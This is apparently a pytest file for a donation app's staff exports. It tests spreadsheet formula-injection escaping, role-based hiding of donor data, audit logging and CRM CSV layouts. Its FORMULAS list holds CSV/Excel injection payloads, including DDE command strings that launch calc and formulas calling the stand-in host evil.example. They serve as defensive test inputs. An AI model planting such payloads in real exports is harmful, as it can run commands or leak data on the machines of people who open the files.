"""Exports: safe to open anywhere, right by role, in the audit, and the long ones beside the request."""

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from appeal import demo
from appeal.appeals import by_slug
from appeal.books import ledger
from appeal.books.ledger import Fact
from appeal.core import clock
from appeal.database import writing
from appeal.extensions import db
from appeal.models import Donation, Donor, LedgerEntry
from appeal.office import audit, exports, sheets
from appeal.office.sheets import Amount
from tests.staff.conftest import Office, make_gift
from tests.support.waiting import until

Enter = Callable[..., Office]

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://evil.example","click")', "=cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "  +cmd", '=1+1";=1+1', "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\u00a0=1", "\u3000=1",
    "\ufeff=1+1", "-2+3+cmd|' /C calc'!A0", '=IMPORTXML(CONCAT(""http://evil.example"",1),""//a"")', "|calc",
    "%0A=1", "\u2212 1", "\ufe62 1", '=DDE("cmd";"/C calc";"x")', "@@1", "+-+1", "=\u200b1", "\u200b=1",
    '=WEBSERVICE("http://evil.example")', '=IMAGE("http://evil.example")', "-HYPERLINK(1)", "+HYPERLINK(1)", "=A1&B1",
    "=1\r\n=2", "\x00=1", "=+-@", "@import", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
]  # fmt: skip
DANGEROUS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_can_run_as_a_formula(text: str) -> None:
    cell = sheets.text_cell(text)
    assert not cell.lstrip(" \u00a0\u3000\ufeff\u200b").startswith(DANGEROUS)
    assert cell.startswith("'")


@pytest.mark.parametrize("text", ["Ada Byron", "O'Neil", "Zoë = fine", "5 + 5", "", "a-b", "İpek"])
def test_an_honest_text_stays_as_it_is(text: str) -> None:
    assert sheets.text_cell(text) == text


@pytest.mark.parametrize(
    ("minor", "currency", "text"),
    [
        (2500, "gbp", "25.00"),
        (-5, "gbp", "-0.05"),
        (0, "eur", "0.00"),
        (-1000, "jpy", "-1000"),
        (1234, "kwd", "1.234"),
    ],
)
def test_an_amount_is_a_plain_number(minor: int, currency: str, text: str) -> None:
    assert str(Amount(minor, currency)) == text


def test_a_csv_reads_back_and_excel_is_told_that_it_is_utf_8() -> None:
    rows = [["=1", "Zoë, “quoted”", Amount(-5, "gbp"), None, 'a "b"\nc']]
    plain = b"".join(sheets.as_csv(["a", "b", "c", "d", "e"], rows)).decode("utf-8")
    assert list(csv.reader(io.StringIO(plain)))[1] == ["'=1", "Zoë, “quoted”", "-0.05", "", 'a "b"\nc']
    excel = b"".join(sheets.as_csv(["a"], [], excel=True))
    assert excel.startswith(b"\xef\xbb\xbf")


def cell_by_cell(rows: list[list[Any]]) -> bytes:
    """Write rows the plain way: every text looked at from its first sign to its last."""
    buffer = io.StringIO()
    for row in rows:
        cells = [sheets.text_cell(cell) if isinstance(cell, str) else cell for cell in row]
        csv.writer(buffer, lineterminator="\r\n").writerow(
            ["" if cell is None else str(cell) for cell in cells]
        )
    return buffer.getvalue().encode()


CELLS = st.one_of(
    st.text(max_size=6),
    st.text(
        alphabet=sorted(sheets.LOOK_CLOSER | set(sheets.SKIPPED) | set("\x00\x1f\x7f\u2028a\"'é,")),
        max_size=4,
    ),
    st.sampled_from([1, True, None, Amount(1, "gbp"), Amount(-1005, "kwd"), "1", "True", "1.00"]),
)


@given(st.lists(st.lists(CELLS, min_size=2, max_size=5), max_size=8))
def test_rows_written_many_at_a_time_are_the_bytes_of_each_cell_looked_at_by_itself(rows: list[Any]) -> None:
    assert b"".join(sheets.as_csv(["a", "b"], rows)) == b"a,b\r\n" + cell_by_cell(rows)


def test_an_export_of_several_pieces_and_windows_misses_and_repeats_nothing(app: Flask) -> None:
    with app.app_context():
        demo.seed(exports.WINDOW_IDS + sheets.CHUNK_ROWS + 1)
        table = exports.entries(by_slug(demo.SLUG), personal=True)
        written = b"".join(sheets.as_csv(table.head, table.rows())).decode()
        numbers = [int(row[0]) for row in list(csv.reader(io.StringIO(written)))[1:]]
        assert numbers == list(db.session.scalars(select(LedgerEntry.id).order_by(LedgerEntry.id)))


def test_days_and_times_that_the_database_writes_are_those_of_the_entries(app: Flask, winter: str) -> None:
    moments = ("2026-11-30T23:59:59.999999", "2026-12-01T00:00:00", "2026-03-29T01:30:00.5")
    with app.app_context():
        for moment in moments:
            at = datetime.fromisoformat(moment).replace(tzinfo=UTC)
            make_gift(by_slug("winter"), 700, received_at=at, src="www.example.org:end", page="/a/1")
        db.session.remove()
        entries = db.session.execute(
            select(LedgerEntry, Donation, Donor)
            .join(Donation, Donation.id == LedgerEntry.donation_id)
            .join(Donor, Donor.id == Donation.donor_id)
            .order_by(LedgerEntry.id)
        )
        expected = [
            (
                entry.id, entry.day.isoformat(), entry.occurred_at.strftime("%H:%M:%S"), entry.kind,
                Amount(entry.amount_minor, entry.currency), entry.currency.upper(), entry.source, entry.frequency,
                entry.placement, donation.src, donation.page, donation.public_id, donation.name, donor.email,
                entry.reason,
            )
            for entry, donation, donor in entries
        ]  # fmt: skip
        assert list(exports.entries(by_slug("winter"), personal=True).rows()) == expected


def test_a_workbook_holds_no_formula_and_amounts_are_numbers(office: Enter, app: Flask, winter: str) -> None:
    with app.app_context():
        for number, text in enumerate(FORMULAS):
            if "\x00" not in text:
                make_gift(by_slug("winter"), 100, text.strip() or "x", email=f"{number}@readers.example")
        db.session.remove()
    book = openpyxl.load_workbook(io.BytesIO(office("editor").get("/staff/donations.xlsx").data))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert book.active.max_row > sum("\x00" not in text for text in FORMULAS)
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert not [
        cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS)
    ]
    assert book.active["E2"].value == 10
    assert book.active["E2"].number_format == "#,##0.00"


def test_personal_data_leaves_only_for_those_who_may_see_it(office: Enter, winter: str) -> None:
    assert "readers.example" not in office("viewer").get("/staff/donations.csv").text
    assert "Byron" not in office("viewer").get("/staff/donations.csv").text
    assert "ada@readers.example" in office("editor").get("/staff/donations.csv").text


def test_every_export_is_in_the_audit(office: Enter, app: Flask, winter: str) -> None:
    office("editor").get("/staff/npsp.csv")
    with app.app_context():
        entry = audit.entries(audit.Search(action="export.made"))[0][0]
        assert entry.actor == "editor@lantern.example"
        assert entry.after == {"file": "winter-npsp.csv", "with_personal_data": True}


def test_the_crm_preset_has_the_headings_that_npsp_expects(office: Enter, winter: str) -> None:
    rows = list(csv.DictReader(io.StringIO(office("editor").get("/staff/npsp.csv").text)))
    first = rows[0]
    assert (first["Contact1 First Name"], first["Contact1 Last Name"]) == ("Ada", "Byron")
    assert (first["Donation Amount"], first["Donation Stage"]) == ("10.00", "Closed Won")
    assert sum(float(row["Donation Amount"]) for row in rows) == 55.0


def test_what_does_not_count_has_an_export_of_its_own_and_is_in_the_crms(
    office: Enter, app: Flask, winter: str
) -> None:
    with app.app_context():
        gift = make_gift(by_slug("winter"), 700, "Grace Hopper", email="grace@readers.example")
        with writing():
            late = Fact("cover", f"late:{gift.id}", 31, clock.now(), counted=False)
            assert ledger.record(ledger.lock(gift.id), late)
    rows = list(csv.DictReader(io.StringIO(office("editor").get("/staff/uncounted.csv").text)))
    assert [(row["Kind"], row["Amount"], row["Name"]) for row in rows] == [("cover", "0.31", "Grace Hopper")]
    assert "Grace" not in office("viewer").get("/staff/uncounted.csv").text
    counted = list(csv.DictReader(io.StringIO(office("editor").get("/staff/donations.csv").text)))
    assert sum(Decimal(row["Amount"]) for row in counted) == Decimal("62.00")
    gifts = list(csv.DictReader(io.StringIO(office("editor").get("/staff/npsp.csv").text)))
    assert [row["Donation Amount"] for row in gifts if row["Contact1 Last Name"] == "Hopper"] == ["7.31"]


def test_a_long_export_is_made_beside_the_request_and_belongs_to_its_maker(
    office: Enter, winter: str
) -> None:
    editor = office("editor")
    started = editor.post("/staff/exports", {"preset": "xlsx", "appeal": "winter"})
    assert started.status_code == 303
    page = until(
        lambda: (text := editor.get(started.location).text) and "Fetch the file" in text and text,
        what="the file",
    )
    assert "4 of about 4 rows" in page
    with editor.get(f"{started.location}/file") as answer:
        book = openpyxl.load_workbook(io.BytesIO(answer.data))
    assert book.active.max_row == 5
    assert office("admin").get(f"{started.location}/file").status_code == 404
